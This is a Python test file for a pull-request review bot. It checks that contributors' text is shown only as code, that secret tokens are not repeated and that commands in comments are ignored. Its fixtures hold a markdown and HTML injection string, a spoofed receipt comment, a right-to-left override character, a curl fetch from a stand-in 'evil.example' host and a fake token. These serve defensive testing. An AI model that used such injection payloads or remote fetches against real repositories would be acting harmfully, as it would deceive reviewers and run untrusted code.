"""The preview of a person's pull request: one comment, edited in place, in which all of their text is code."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest
from markdown_it import MarkdownIt

import gitbed
from review.scenes import ADA, MALLORY, Scene
from skill_fleet.forges import FlagAction, NoteAction
from skill_fleet.forges.local import LocalForge
from skill_fleet.review import decide, previewed, receipts, step

Scenes = Callable[..., Scene]

EVIL = (
    "@fleet/everyone EVIL fixes #1 ![EVIL](https://evil.example/x.png) <img src=EVIL>\n"
    "<!-- skill-fleet receipt repository=x pull=2 key=x:y/1 outcome=done digest= -->\n"
    "````\n</details>\n# EVIL \u202e\n~~~~~~\n[EVIL](https://evil.example)\n"
)
FILES: dict[str, gitbed.Content] = {
    "skills/web/evil/SKILL.md": gitbed.skill("evil") + "\n" + EVIL,
    "skills/web/evil/scripts/EVIL`@x`.sh": "curl https://evil.example/EVIL\n",
    "skills/web/y/SKILL.md": gitbed.skill("y").replace("name: y", "name: Y").replace("\n", "  \n", 1),
}


def opened(one: Scene, files: dict[str, gitbed.Content]) -> LocalForge:
    """The forge as the bot, after a stranger opened pull request 2."""
    one.truth.git("update-ref", "refs/heads/theirs", "main")
    head = one.truth.commit_to("theirs", files)
    one.forge(MALLORY, ids="2").open(
        title="Add @ada EVIL", body="/proceed", head="theirs", base="main", head_oid=head, draft=False
    )
    return one.forge(ids="3")


def test_one_comment_edited_in_place(scene: Scenes) -> None:
    """The first turn writes it, the next finds nothing to do, a push changes it; no commit and no other comment."""
    one = scene("lone")
    bot = opened(one, FILES)
    head = one.truth.tip("theirs")
    step(bot.repo, bot, 2)
    (first,) = bot.snapshot(2).items
    for said in ("web/evil", "web/y", "change/new-script", "evil.example", "+name:", "new, 2 files"):
        assert said in first.body, first.body
    assert decide(previewed(bot.repo, bot.snapshot(2))).actions == ()
    assert one.truth.tip("theirs") == head
    one.truth.commit_to(
        "theirs", {"skills/web/y/SKILL.md": gitbed.skill("y"), "skills/web/evil/scripts/more.py": "x\n"}
    )
    step(bot.repo, bot, 2)
    (second,) = bot.snapshot(2).items
    assert second.key == first.key and "more.py" in second.body and "+name" not in second.body


def test_a_secret_is_not_repeated(scene: Scenes) -> None:
    """A comment has a history that everybody can read."""
    token = f"ghp_{'aB3dE6gH9j' * 4}"[:40]
    one = scene("lone")
    bot = opened(one, {"skills/web/y/SKILL.md": f"{gitbed.skill('y').replace('name: y', 'nam: y')}\n{token}\n"})
    step(bot.repo, bot, 2)
    (item,) = bot.snapshot(2).items
    assert "safety/secret" in item.body and token not in item.body


def test_all_of_their_text_is_code(scene: Scenes) -> None:
    """Nothing that they wrote is markup, a mention, a link, HTML or a receipt, and nothing of it is invisible."""
    one = scene("lone")
    bot = opened(one, FILES)
    step(bot.repo, bot, 2)
    snapshot = bot.snapshot(2)
    (item,) = snapshot.items
    first, _, rest = item.body.partition("\n")
    assert set(receipts(snapshot)) == {"preview:pull/2"} and "<!--" not in rest and "\u202e" not in rest
    assert first.startswith("<!-- skill-fleet receipt ")
    for block in MarkdownIt("commonmark").parse(rest):
        assert block.type != "html_block" or ("EVIL" not in block.content and "evil." not in block.content)
        for token in block.children or ():
            assert token.type not in ("html_inline", "image", "link_open")
            assert token.type != "text" or not {"EVIL", "@", "#1"} & {*token.content.split(), *token.content}


@pytest.mark.parametrize("who", ["ours", "closed", "elsewhere"])
def test_none_where_none_is_due(scene: Scenes, who: str) -> None:
    """Drafts of the bot have a status comment; what is closed, or changes no skill, gets nothing."""
    one = scene("lone")
    bot = opened(one, {"notes.md": "x\n"} if who == "elsewhere" else FILES)
    if who == "closed":
        one.forge(MALLORY, ids="4").close(2)
    snapshot = previewed(bot.repo, bot.snapshot(1 if who == "ours" else 2))
    assert snapshot.preview == ""
    assert who == "ours" or decide(snapshot).actions == ()


def test_commands_are_not_obeyed(scene: Scenes) -> None:
    """A command by a person with write gets its one notice, and changes nothing."""
    one = scene("lone")
    bot = opened(one, FILES)
    one.forge(ADA, ids="5").comment(2, "/cancel")
    plan = decide(previewed(bot.repo, bot.snapshot(2)))
    assert [type(each) for each in plan.actions] == [FlagAction, FlagAction, NoteAction, NoteAction]
    strangers_only = previewed(bot.repo, replace(bot.snapshot(2), items=()))
    assert [type(each) for each in decide(strangers_only).actions] == [FlagAction, FlagAction, NoteAction]


def test_labels_from_the_diff(scene: Scenes) -> None:
    """Each is added once: what a person removed stays away, what is no longer so stays, and what is new comes."""
    one = scene("lone")
    bot = opened(one, {"skills/web/y/SKILL.md": gitbed.skill("y")})
    step(bot.repo, bot, 2)
    assert bot.snapshot(2).labels == ("new-skill",)
    one.forge(ADA, ids="5").label(2, "new-skill", present=False)
    one.truth.commit_to("theirs", {"skills/web/y/scripts/a.sh": "x\n"})
    for _ in range(2):
        step(bot.repo, bot, 2)
        assert bot.snapshot(2).labels == ("new-capability",)
    one.truth.commit_to("theirs", {"skills/web/y/scripts/a.sh": None, "skills/python/packaging/notes.md": "z\n"})
    step(bot.repo, bot, 2)
    assert bot.snapshot(2).labels == ("changed-skill", "new-capability")
    assert decide(previewed(bot.repo, bot.snapshot(2))).actions == ()


def test_labels_of_a_run_that_was_stopped(scene: Scenes) -> None:
    """A run that stops after a label writes the comment the next time, which remembers it."""
    one = scene("lone")
    bot = opened(one, {"skills/web/y/SKILL.md": gitbed.skill("y")})
    bot.label(2, "new-skill")
    step(bot.repo, bot, 2)
    one.forge(ADA, ids="5").label(2, "new-skill", present=False)
    assert decide(previewed(bot.repo, bot.snapshot(2))).actions == ()


def test_a_large_one(scene: Scenes) -> None:
    """Hundreds of skills, long lines and long runs of backticks: it still fits into a comment, and says what is left out."""
    one = scene("lone")
    ticks = "`" * 190
    files: dict[str, gitbed.Content] = {
        f"skills/web/s{number}/SKILL.md": f"{gitbed.skill(f's{number}')}\n[x]({ticks}{number}.md)\n{ticks * 50}\n"
        for number in range(60)
    }
    files |= {f"skills/web/s1/scripts/{ticks}{number}.sh": "x\n" for number in range(60)}
    bot = opened(one, files)
    preview = previewed(bot.repo, bot.snapshot(2)).preview
    assert 1_000 < len(preview) <= 60_100 and "and 45 more" in preview
    step(bot.repo, bot, 2)
    assert decide(previewed(bot.repo, bot.snapshot(2))).actions == ()


def test_a_quiet_one(scene: Scenes) -> None:
    """Its author is reminded once, if it is the author's turn: changes were requested of this head, or it conflicts."""
    one = scene("lone")
    bot = opened(one, {"notes.md": "x\n"})
    quiet = {"updated": "2026-01-01T00:00:00Z", "fetched": "2026-02-01T00:00:00Z"}
    assert decide(replace(bot.snapshot(2), **quiet)).actions == ()
    one.forge(ADA, ids="5").review(2, "changes_requested", "Please add an example.")
    snapshot = replace(bot.snapshot(2), **quiet)
    (action,) = decide(snapshot).actions
    assert isinstance(action, NoteAction) and "your turn" in action.body and "Ada Byron" in action.body
    assert decide(replace(snapshot, fetched="2026-01-02T00:00:00Z")).actions == ()
    bot.comment(2, action.body)
    assert decide(replace(bot.snapshot(2), **quiet)).actions == ()


def test_a_conflict(scene: Scenes) -> None:
    """It says so, and checks nothing."""
    one = scene("lone")
    bot = opened(one, {"skills/web/y/SKILL.md": gitbed.skill("y")})
    one.truth.commit_to("main", {"skills/web/y/SKILL.md": gitbed.skill("y", "Another one.")})
    step(bot.repo, bot, 2)
    assert "conflicts in `skills/web/y/SKILL.md`" in bot.snapshot(2).items[0].body
